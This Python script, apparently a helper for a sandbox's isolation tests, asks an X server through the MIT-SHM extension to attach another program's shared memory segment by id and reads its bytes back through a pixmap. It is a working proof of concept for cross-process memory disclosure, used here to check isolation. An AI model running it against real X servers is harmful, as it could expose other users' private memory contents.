"""A client that asks an X server (DISPLAY, XAUTHORITY) to attach the System V shared memory
segment SHMID through MIT-SHM, copy it into a pixmap and hand it back: what a sandbox would
read of another program's segment, were the server in another IPC namespace than its own
(test_nested_display.py runs it as a UID of nobody's).

    python xshm_attack.py SHMID     prints "absent", "refused" or "read <bytes as hex>"
"""

from __future__ import annotations

import sys

from Xlib import X
from Xlib.display import Display
from Xlib.protocol import rq


class ShmAttach(rq.Request):
    _request = rq.Struct(rq.Card8("opcode"), rq.Opcode(1), rq.RequestLength(),
                         rq.Card32("shmseg"), rq.Card32("shmid"), rq.Bool("read_only"),
                         rq.Pad(3))


class ShmPutImage(rq.Request):
    _request = rq.Struct(rq.Card8("opcode"), rq.Opcode(3), rq.RequestLength(),
                         rq.Drawable("drawable"), rq.GC("gc"), rq.Card16("total_width"),
                         rq.Card16("total_height"), rq.Card16("src_x"), rq.Card16("src_y"),
                         rq.Card16("src_width"), rq.Card16("src_height"), rq.Int16("dst_x"),
                         rq.Int16("dst_y"), rq.Card8("depth"), rq.Card8("format"),
                         rq.Bool("send_event"), rq.Pad(1), rq.Card32("shmseg"),
                         rq.Card32("offset"))


def main() -> None:
    display = Display()
    extension = display.query_extension("MIT-SHM")
    if extension is None or not extension.present:
        print("absent")
        return
    errors: list[object] = []
    segment = display.display.allocate_resource_id()
    ShmAttach(display=display.display, opcode=extension.major_opcode, shmseg=segment,
              shmid=int(sys.argv[1]), read_only=True, onerror=errors.append)
    display.sync()
    if errors:
        print("refused")
        return
    screen = display.screen()
    pixmap = screen.root.create_pixmap(64, 1, screen.root_depth)
    gc = pixmap.create_gc()
    ShmPutImage(display=display.display, opcode=extension.major_opcode, drawable=pixmap.id,
                gc=gc.id, total_width=64, total_height=1, src_x=0, src_y=0, src_width=64,
                src_height=1, dst_x=0, dst_y=0, depth=screen.root_depth, format=X.ZPixmap,
                send_event=False, shmseg=segment, offset=0, onerror=errors.append)
    image = pixmap.get_image(0, 0, 64, 1, X.ZPixmap, 0xFFFFFFFF)
    print("refused" if errors else "read " + bytes(image.data).hex())


if __name__ == "__main__":
    main()
